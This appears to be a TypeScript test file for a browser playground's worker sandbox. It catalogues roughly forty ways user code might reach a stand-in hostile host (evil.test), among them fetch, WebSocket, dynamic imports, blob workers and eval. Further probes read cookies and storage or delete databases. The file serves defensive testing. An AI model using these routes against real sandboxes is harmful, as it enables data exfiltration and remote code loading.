/**
 * Ways out of a worker, each the body of an async function that answers in a few words what came of it. `url` and `socket`
 * lead to the hostile server, by a host name that no other probe uses.
 */
export const PROBES: Readonly<Record<string, string>> = {
  fetch: 'return (await fetch(url)).status;',
  fetchNoCors: "return (await fetch(url, { mode: 'no-cors' })).type;",
  fetchKeepalive: "return (await fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })).type;",
  fetchLater: 'return String(fetchLater(url, { activateAfter: 0 }));',
  request: 'return (await fetch(new Request(url))).status;',
  xhr: "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.status;",
  xhrAsync:
    "const x = new XMLHttpRequest(); x.open('GET', url); return new Promise((r) => { x.onload = () => r('loaded'); x.onerror = () => r('error'); x.send(); });",
  webSocket:
    "const w = new WebSocket(socket); return new Promise((r) => { w.onopen = () => r('open'); w.onerror = () => r('error'); setTimeout(r, 500, 'no answer'); });",
  webSocketStream: "await new WebSocketStream(socket).opened; return 'open';",
  eventSource:
    "const s = new EventSource(url); return new Promise((r) => { s.onopen = () => r('open'); s.onerror = () => r('error'); setTimeout(r, 500, 'no answer'); });",
  webTransport: "await new WebTransport(url.replace('http:', 'https:')).ready; return 'ready';",
  importScripts: "importScripts(url + '.js'); return 'imported';",
  importHttp: "await import(url + '.js'); return 'imported';",
  importJson: "await import(url, { with: { type: 'json' } }); return 'imported';",
  blobImportsHttp: "await import(URL.createObjectURL(new Blob([`import '${url}.js';`], { type: 'text/javascript' }))); return 'imported';",
  blobExportsHttp:
    "await import(URL.createObjectURL(new Blob([`export * from '${url}.js';`], { type: 'text/javascript' }))); return 'imported';",
  dataImportsHttp: "await import(`data:text/javascript,import '${url}.js';`); return 'imported';",
  workerHttp: "return await spoken(() => new Worker(url + '.js'));",
  workerBlobFetches:
    'return await spoken(() => new Worker(blob(`fetch("${url}").then(() => postMessage("reached"), (e) => postMessage(String(e)))`)));',
  workerBlobModule: "return await spoken(() => new Worker(blob(`import '${url}.js'; postMessage('reached')`), { type: 'module' }));",
  workerBlobScripts: "return await spoken(() => new Worker(blob(`importScripts('${url}.js'); postMessage('reached')`)));",
  workerData:
    'return await spoken(() => new Worker(`data:text/javascript,fetch("${url}").then(() => postMessage("reached"), (e) => postMessage(String(e)))`));',
  workerByOwnPolicy:
    "const p = trustedTypes.createPolicy('app#relay', { createScriptURL: (u) => u }); return await spoken(() => new Worker(p.createScriptURL(blob(`fetch('${url}').then(() => postMessage('reached'), (e) => postMessage(String(e)))`))));",
  sharedWorker: "new SharedWorker(url + '.js'); return 'made';",
  beacon: "return String(navigator.sendBeacon(url, 'x'));",
  fontFace: "const f = new FontFace('f', `url(${url})`); self.fonts.add(f); await f.load(); return 'loaded';",
  wasmStreaming: "await WebAssembly.compileStreaming(fetch(url)); return 'compiled';",
  cacheAdd: "await (await caches.open('c')).add(url); return 'added';",
  serviceWorker: "await navigator.serviceWorker.register(url + '.js'); return 'registered';",
  notificationIcon: "new Notification('x', { icon: url }); return 'shown';",
  locationAssign: "location.href = url; return 'assigned';",
  locationSelf: "self.location = url; return 'assigned';",
  openWindow: 'return String(open(url));',
  rtc: "const p = new RTCPeerConnection({ iceServers: [{ urls: url.replace('http://', 'stun:').replace(/\\/.*/, '') }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); return 'gathering';",
  sourceMap: "(0, eval)(`1\\n//# sourceMappingURL=${url}`); return 'evaluated';",
  evalFetch: "return await (0, eval)(`fetch('${url}').then(() => 'reached')`);",
  functionFetch: "return await new Function(`return fetch('${url}').then(() => 'reached')`)();",
  timerText: "setTimeout(`fetch('${url}')`, 0); await new Promise((r) => setTimeout(r, 100)); return 'set';",
};

/** Those that an unprotected worker of Chromium gets through with: what a test without them would not have tested. */
export const REACHING: readonly string[] = [
  'fetch',
  'fetchNoCors',
  'fetchKeepalive',
  'request',
  'xhr',
  'xhrAsync',
  'webSocket',
  'eventSource',
  'importScripts',
  'importHttp',
  'blobImportsHttp',
  'blobExportsHttp',
  'workerBlobFetches',
  'workerBlobModule',
  'workerBlobScripts',
  'workerData',
  'fontFace',
  'wasmStreaming',
  'evalFetch',
  'functionFetch',
  'timerText',
];

/** Storage and other contexts: what user code could read or break without any network. */
export const STORES: Readonly<Record<string, string>> = {
  indexedDb:
    "const q = indexedDB.open('playground'); return new Promise((r) => { q.onsuccess = () => r('OPENED'); q.onerror = () => r('refused ' + q.error); });",
  indexedDbList: "return 'LISTED ' + JSON.stringify(await indexedDB.databases());",
  indexedDbDelete:
    "const q = indexedDB.deleteDatabase('playground-old'); return new Promise((r) => { q.onsuccess = () => r('DELETED'); q.onerror = () => r('refused ' + q.error); });",
  opfs: "return 'OPENED ' + (await navigator.storage.getDirectory()).kind;",
  locks: "return 'LISTED ' + JSON.stringify(await navigator.locks.query());",
  caches: "await caches.open('c'); return 'OPENED';",
  cookies: "return 'READ ' + JSON.stringify(await cookieStore.getAll());",
  localStorage: "return 'READ ' + localStorage.length;",
  broadcast: "new BroadcastChannel('app').postMessage({ type: 'doc-deleted', id: '*' }); return 'sent';",
  dom: "return ['document', 'parent', 'top', 'opener', 'frames'].filter((k) => k in self).join() || 'none';",
};

/** The text of a classic worker that tries all of these and posts what came of them as one JSON text over its port. */
export function probeWorker(probes: Readonly<Record<string, string>>, port: number): string {
  const bodies = Object.entries(probes).map(([name, body]) => `${JSON.stringify(name)}: async (url, socket) => { ${body} }`);
  return `'use strict';
const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const spoken = (make) => new Promise((r) => { const w = make(); w.onmessage = (e) => r(String(e.data)); w.onerror = () => r('error'); setTimeout(r, 500, 'silent'); });
const probes = { ${bodies.join(',\n')} };
const tryAll = async () => {
  const found = {};
  await Promise.all(Object.keys(probes).map(async (name) => {
    const host = name.toLowerCase() + '.evil.test:${port}';
    const late = new Promise((r) => setTimeout(r, 1500, 'no answer'));
    try { found[name] = String(await Promise.race([probes[name]('http://' + host + '/' + name, 'ws://' + host + '/' + name), late])); } catch (e) { found[name] = String(e); }
  }));
  return JSON.stringify(found);
};
addEventListener('message', async (event) => { const text = await tryAll(); (event.ports[0] ?? self).postMessage(text); }, { once: true });
`;
}
